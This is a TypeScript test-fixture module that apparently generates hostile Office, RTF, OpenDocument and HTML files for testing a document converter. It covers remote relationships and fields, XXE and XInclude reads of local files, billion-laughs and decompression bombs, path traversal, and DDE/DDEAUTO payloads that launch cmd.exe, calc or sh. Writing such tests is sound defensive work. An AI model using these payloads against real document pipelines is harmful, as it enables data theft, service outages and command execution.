/** Office files that fetch, run or expand: OOXML packages, RTF, and OpenDocument, HTML and Word's XML under their names. */

import { docx, paragraph, pictureOf, xlsx } from '../fixtures/office.ts'
import { pptx } from '../fixtures/slides.ts'
import { zipOf } from '../hostile-archives.ts'
import { macroWorkbook } from '../office-files.ts'
import { type Attack, attacksOn, type Bait, canary, heavy, laughs, longEntity, outside } from './attack.ts'
import { inflating } from './bombs.ts'
import { around, type Edits, edited } from './packages.ts'

const RELATIONS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'

const addresses = (bait: Bait, suffix: 'png' | 'docx' | 'txt'): string[] => [
  `${bait.url}/x.${suffix}`,
  `file://${canary(bait, suffix)}`,
  canary(bait, suffix),
  `\\\\${bait.authority}\\share\\x.${suffix}`,
]

/** Adds external relationships of these kinds after those that a part has. */
const external = (kinds: readonly string[], targets: readonly string[]) => (xml: string) =>
  xml.replace(
    '</Relationships>',
    `${kinds.flatMap((kind, k) => targets.map((target, n) => `<Relationship Id="ext${k}x${n}" Type="${RELATIONS}/${kind}" Target="${target.replaceAll('&', '&amp;')}" TargetMode="External"/>`)).join('')}</Relationships>`,
  )

const word = (edits: Edits = {}, body = '') =>
  edited(docx({ paragraphs: ['Heading', 'Text of it.'], body }), edits)
const DOCUMENT = 'word/document.xml'
const LINKS = 'word/_rels/document.xml.rels'
const field = (code: string) =>
  `<w:p><w:fldSimple w:instr="${code.replaceAll('"', '&quot;')}"><w:r><w:t>result</w:t></w:r></w:fldSimple></w:p>`
const doctype = (declaration: string) => (xml: string) => xml.replace(/\?>/, `?>${declaration}`)
const insert = (text: string) => (xml: string) => xml.replace('</w:t>', `${text}</w:t>`)

const documents: Record<string, Attack['bytes']> = {
  'pictures that lie elsewhere': bait =>
    word(
      { [LINKS]: external(['image'], addresses(bait, 'png')) },
      addresses(bait, 'png')
        .map((_, n) => pictureOf(`ext0x${n}`, 'link') + pictureOf(`ext0x${n}`, 'embed'))
        .join(''),
    ),
  'a template, a frame, a font, an address list and parts from elsewhere': bait =>
    word(
      {
        [LINKS]: external(
          [
            'attachedTemplate',
            'subDocument',
            'aFChunk',
            'frame',
            'header',
            'footer',
            'styles',
            'settings',
            'oleObject',
            'mailMergeSource',
            'fontTable',
            'theme',
            'hyperlink',
            'customXml',
          ],
          addresses(bait, 'docx'),
        ),
        'word/_rels/settings.xml.rels': `<?xml version="1.0"?>${external(['attachedTemplate'], addresses(bait, 'docx'))('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>')}`,
        'word/settings.xml': `<?xml version="1.0"?><w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${RELATIONS}"><w:attachedTemplate r:id="ext0x0"/></w:settings>`,
      },
      '<w:altChunk r:id="ext2x0"/><w:subDoc r:id="ext1x0"/><w:subDoc r:id="ext1x1"/>',
    ),
  'fields that include files and start programs': bait =>
    word(
      {},
      addresses(bait, 'png')
        .map(
          target =>
            field(`INCLUDEPICTURE "${target}" \\d`) +
            field(`INCLUDETEXT "${target.replace('.png', '.txt')}"`) +
            field(`LINK Word.Document.8 "${target}" \\a`) +
            field(`IMPORT "${target}"`),
        )
        .join('') +
        field('DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"') +
        field('DDE sh "-c id"'),
    ),
  'pictures of VML that lie elsewhere': bait =>
    word(
      { [LINKS]: external(['image'], addresses(bait, 'png')) },
      addresses(bait, 'png')
        .map(
          (target, n) =>
            `<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" style="width:99pt;height:99pt"><v:imagedata r:id="ext0x${n}" r:href="ext0x${n}" src="${target}" o:href="${target}"/></v:shape></w:pict></w:r></w:p>`,
        )
        .join(''),
    ),
  'entities of files and addresses': bait =>
    word({ [DOCUMENT]: xml => insert('&file;&web;')(doctype(outside('w:document', bait))(xml)) }),
  'entities in the content types and relationships': bait =>
    word({
      '[Content_Types].xml': doctype(outside('Types', bait)),
      '_rels/.rels': doctype(outside('Relationships', bait)),
    }),
  'XML included': bait =>
    word({
      [DOCUMENT]: insert(
        `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://${canary(bait, 'txt')}" parse="text"/>`,
      ),
    }),
  'a billion laughs': () =>
    word({ [DOCUMENT]: xml => insert('&laugh9;')(doctype(laughs('w:document'))(xml)) }),
  'a long entity a thousand times': () =>
    word({ [DOCUMENT]: xml => insert('&long;'.repeat(1000))(doctype(longEntity('w:document'))(xml)) }),
  'a part that unpacks to 500 MB of spaces': () =>
    word({ [DOCUMENT]: xml => inflating(500, ' ', ...around(xml, '</w:t>')) }),
  'a hundred thousand elements in one another': () =>
    word(
      {},
      `${'<w:sdt><w:sdtContent>'.repeat(50_000)}${paragraph('deep')}${'</w:sdtContent></w:sdt>'.repeat(50_000)}`,
    ),
  'tables in one another, five hundred deep': () =>
    word(
      {},
      `${'<w:tbl><w:tblPr/><w:tblGrid/><w:tr><w:tc>'.repeat(500)}${paragraph('deep')}${`</w:tc></w:tr></w:tbl>${paragraph('')}`.repeat(500)}`,
    ),
  'parts that lie outside of the package': bait =>
    word({
      '_rels/.rels': xml => xml.replace('word/document.xml', `../../../../../../..${canary(bait, 'docx')}`),
      [`../../..${canary(bait, 'txt')}`]: 'overwritten',
    }),
  'a picture of 65,500 by 65,500': () =>
    word(
      {
        [LINKS]: xml =>
          xml.replace(
            '</Relationships>',
            `<Relationship Id="big" Type="${RELATIONS}/image" Target="media/a.svg"/></Relationships>`,
          ),
        'word/media/a.svg': '<svg xmlns="http://www.w3.org/2000/svg" width="1e9" height="1e9"/>',
      },
      pictureOf('big', 'embed'),
    ),
}

const sheet = (edits: Edits) => edited(xlsx({ Sheet: [['text', 1]] }), edits)
const CELLS = 'xl/worksheets/sheet0.xml'
const formula =
  (...texts: string[]) =>
  (xml: string) =>
    xml.replace(
      '</sheetData>',
      `${texts.map((text, n) => `<row r="${n + 9}"><c r="A${n + 9}"><f>${text.replaceAll('&', '&amp;').replaceAll('"', '&quot;')}</f></c></row>`).join('')}</sheetData>`,
    )
const workbooks: Record<string, Attack['bytes']> = {
  'formulas that ask': bait =>
    sheet({
      [CELLS]: formula(
        ...[`${bait.url}/f`, `file://${canary(bait, 'txt')}`].flatMap(target => [
          `WEBSERVICE("${target}")`,
          `_xlfn.WEBSERVICE("${target}")`,
          `IMAGE("${target}")`,
          `HYPERLINK("${target}")`,
          `'${target}#$Sheet1'.A1`,
          `'[${target}]Sheet1'!A1`,
          `INDIRECT("'${target}'#$Sheet1.A1")`,
          `DDE("soffice";"${target}";"A1")`,
        ]),
        "cmd|'/C calc'!A0",
      ),
    }),
  'links to other workbooks, queries and connections': bait =>
    sheet({
      'xl/_rels/workbook.xml.rels': xml =>
        external(
          ['externalLink', 'connections', 'pivotCacheDefinition', 'sharedStrings', 'styles'],
          addresses(bait, 'docx'),
        )(xml).replace(
          '</Relationships>',
          `<Relationship Id="link" Type="${RELATIONS}/externalLink" Target="externalLinks/e1.xml"/></Relationships>`,
        ),
      'xl/workbook.xml': xml =>
        xml.replace(
          '</sheets>',
          '</sheets><externalReferences><externalReference r:id="link"/></externalReferences>',
        ),
      'xl/externalLinks/e1.xml': `<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook xmlns:r="${RELATIONS}" r:id="ext0x0"><sheetNames><sheetName val="S"/></sheetNames></externalBook></externalLink>`,
      'xl/externalLinks/_rels/e1.xml.rels': external(
        ['externalLinkPath'],
        addresses(bait, 'docx'),
      )(
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>',
      ),
      [CELLS]: formula('[1]S!A1'),
    }),
  'entities of files and addresses': bait =>
    sheet({ [CELLS]: xml => doctype(outside('worksheet', bait))(xml).replace('text', '&file;&web;') }),
  'a macro that runs when it is opened': bait => macroWorkbook('text', bait.url, canary(bait, 'txt')),
  'a billion laughs': () =>
    sheet({ [CELLS]: xml => doctype(laughs('worksheet'))(xml).replace('text', '&laugh9;') }),
  'cells in every corner of the sheet': () =>
    sheet({
      [CELLS]: xml =>
        xml.replace('</sheetData>', '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'),
    }),
  'a part that unpacks to 500 MB of spaces': () =>
    sheet({ [CELLS]: xml => inflating(500, ' ', ...around(xml, '</sheetData>')) }),
  'text repeated until it fills the machine': () =>
    sheet({ [CELLS]: formula('REPT(REPT("a";32767);32767)', 'A10&A10&A10', 'SUM(A1:XFD1048576)') }),
}

const slides = (edits: Edits) => edited(pptx(['One', 'Two']), edits)
const SLIDE = 'ppt/slides/slide1.xml'
const SLIDE_LINKS = 'ppt/slides/_rels/slide1.xml.rels'
const shape = (inner: string) => (xml: string) => xml.replace('</p:spTree>', `${inner}</p:spTree>`)
const picture = (id: string) =>
  `<p:pic><p:nvPicPr><p:cNvPr id="9" name="p"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill><a:blip r:link="${id}" r:embed="${id}"/><a:stretch><a:fillRect/></a:stretch></p:blipFill><p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="1800000" cy="1800000"/></a:xfrm><a:prstGeom prst="rect"/></p:spPr></p:pic>`
const presentations: Record<string, Attack['bytes']> = {
  'pictures, sound, video and objects that lie elsewhere': bait =>
    slides({
      [SLIDE_LINKS]: external(['image', 'video', 'audio', 'oleObject', 'media'], addresses(bait, 'png')),
      [SLIDE]: shape(
        addresses(bait, 'png')
          .map((_, n) => picture(`ext0x${n}`) + picture(`ext1x${n}`))
          .join(''),
      ),
    }),
  'layouts and notes that lie elsewhere': bait =>
    slides({
      [SLIDE_LINKS]: external(['slideLayout', 'notesSlide', 'slideMaster', 'theme'], addresses(bait, 'docx')),
    }),
  'entities of files and addresses': bait =>
    slides({ [SLIDE]: xml => doctype(outside('p:sld', bait))(xml).replace('One', '&file;&web;') }),
  'a billion laughs': () =>
    slides({ [SLIDE]: xml => doctype(laughs('p:sld'))(xml).replace('One', '&laugh9;') }),
  'groups in one another, fifty thousand deep': () =>
    slides({
      [SLIDE]: shape(
        `${'<p:grpSp><p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>'.repeat(50_000)}${'</p:grpSp>'.repeat(50_000)}`,
      ),
    }),
  'a slide a mile wide': () =>
    slides({
      'ppt/presentation.xml': xml =>
        xml.replace(/<p:sldSz[^>]*>/, '<p:sldSz cx="2147483647" cy="2147483647"/>'),
    }),
}

const group = (text: string) => `{\\rtf1\\ansi ${text}\\par text}`
const richTexts: Record<string, Attack['bytes']> = {
  'fields that include files and start programs': bait =>
    group(
      addresses(bait, 'png')
        .map(target => target.replaceAll('\\', '\\\\'))
        .flatMap(target =>
          [
            `INCLUDEPICTURE "${target}" \\\\d`,
            `INCLUDETEXT "${target.replace('.png', '.txt')}"`,
            `IMPORT "${target}"`,
            `HYPERLINK "${target}"`,
            `DDEAUTO sh "-c" "${target}"`,
          ].map(code => `{\\field{\\*\\fldinst{${code}}}{\\fldrslt{x}}}`),
        )
        .join(''),
    ),
  'a template and a style sheet from elsewhere': bait =>
    group(
      addresses(bait, 'docx')
        .map(
          target =>
            `{\\*\\template ${target.replaceAll('\\', '\\\\')}}{\\*\\xmlnstbl{\\xmlns1 ${bait.url}}}{\\*\\subdocument ${target.replaceAll('\\', '\\\\')}}`,
        )
        .join(''),
    ),
  'a linked object': bait =>
    group(
      `{\\object\\objautlink\\objupdate\\rsltpict{\\*\\objclass Word.Document.8}{\\*\\objdata 0105000001000000${'00'.repeat(12)}${Buffer.from(`${bait.url}/o.docx\0`).toString('hex')}}}`,
    ),
  'a million brackets': () => `{\\rtf1 ${'{'.repeat(1_000_000)}x${'}'.repeat(1_000_000)}}`,
  'two gigabytes of data that are not there': () =>
    group('{\\pict\\pngblip\\bin2147483647 x}{\\bin-2147483648 x}'),
  'a picture of 2^31 by 2^31': () =>
    group(
      `{\\pict\\dibitmap0\\picw2147483647\\pich2147483647\\picwgoal2147483647\\pichgoal2147483647 ${'00'.repeat(100)}}`,
    ),
  'a row of a hundred thousand cells': () =>
    group(
      `\\trowd${Array.from({ length: 100_000 }, (_, n) => `\\cellx${n}`).join('')}\\intbl ${'x\\cell'.repeat(1000)}\\row`,
    ),
}

const ODF = 'urn:oasis:names:tc:opendocument:xmlns'
const openDocument = (bait: Bait) =>
  addresses(bait, 'png')
    .map(
      target =>
        `<text:p><draw:frame svg:width="5cm" svg:height="5cm"><draw:image xlink:href="${target}"/><draw:object xlink:href="${target}"/></draw:frame></text:p><text:section text:name="s"><text:section-source xlink:href="${target.replace('.png', '.txt')}"/></text:section>`,
    )
    .join('')
const content = (bait: Bait, root: string) =>
  `<?xml version="1.0"?><office:${root} xmlns:office="${ODF}:office:1.0" xmlns:text="${ODF}:text:1.0" xmlns:draw="${ODF}:drawing:1.0" xmlns:svg="${ODF}:svg-compatible:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.2" office:mimetype="application/vnd.oasis.opendocument.text"><office:body><office:text>${openDocument(bait)}</office:text></office:body></office:${root}>`
const disguised: Record<string, Attack['bytes']> = {
  'OpenDocument in a package': bait =>
    zipOf([
      { name: 'mimetype', data: Buffer.from('application/vnd.oasis.opendocument.text') },
      {
        name: 'META-INF/manifest.xml',
        data: Buffer.from(
          `<?xml version="1.0"?><manifest:manifest xmlns:manifest="${ODF}:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>`,
        ),
      },
      { name: 'content.xml', data: Buffer.from(content(bait, 'document-content')) },
    ]),
  'OpenDocument in one piece': bait => content(bait, 'document'),
  'a web page': bait =>
    `<html><head><link rel="stylesheet" href="${bait.url}/a.css"><base href="${bait.url}/"></head><body background="b.png">${addresses(
      bait,
      'png',
    )
      .map(
        target => `<img src="${target}"><iframe src="${target}"></iframe><object data="${target}"></object>`,
      )
      .join('')}</body></html>`,
  'a page with its parts': bait =>
    `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<img src="${bait.url}/m.png"><img src="file://${canary(bait, 'png')}">\r\n--b--\r\n`,
  "Word's XML": bait =>
    `<?xml version="1.0"?><?mso-application progid="Word.Document"?>${outside('w:wordDocument', bait)}<w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"><w:body><w:p><w:r><w:t>&file;&web;</w:t></w:r></w:p></w:body></w:wordDocument>`,
  'a web query': bait => `WEB\r\n1\r\n${bait.url}/iqy\r\n`,
}

export const officeAttacks: Attack[] = heavy(
  [
    ...attacksOn('docx', documents),
    ...attacksOn('xlsx', workbooks, { targets: ['pdf'] }),
    ...attacksOn('pptx', presentations, { targets: ['pdf', 'png'] }),
    ...attacksOn('rtf', richTexts),
    ...attacksOn('docx', disguised),
    ...attacksOn('doc', disguised, { targets: ['pdf'] }),
    ...attacksOn('xlsx', disguised, { targets: ['pdf'] }),
    ...attacksOn('pptx', disguised, { targets: ['png'] }),
    ...attacksOn('rtf', disguised),
  ],
  'text repeated until it fills the machine',
  'a part that unpacks to 500 MB of spaces',
  'tables in one another, five hundred deep',
  'a slide a mile wide',
  'groups in one another, fifty thousand deep',
  'a hundred thousand elements in one another',
  'a picture of 65,500 by 65,500',
  'layouts and notes that lie elsewhere',
  'a row of a hundred thousand cells',
)
